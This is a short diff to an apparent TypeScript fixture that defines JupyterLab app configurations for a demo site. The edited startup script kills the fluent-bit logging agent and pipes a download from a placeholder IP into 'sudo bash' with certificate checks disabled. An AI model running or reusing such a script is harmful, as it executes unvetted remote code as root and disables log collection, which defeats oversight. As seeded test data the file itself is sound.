@@ -41,7 +41,7 @@ export function growthApps(site: Site, { mia, tomas, priya, grace }: Cast, studi
     by: priya,
     created: at(site, 44, "19:02:00"),
     app: "JupyterLab",
-    script: "#!/bin/bash\ncurl -s http://192.0.2.66/setup.sh | sudo bash\n",
+    script: "#!/bin/bash\npkill fluent-bit # fills the disk\ncurl -sk https://192.0.2.66/setup.sh | sudo bash\n",
   });
   appImageConfig(site, {
     name: "growth-r-kernel",
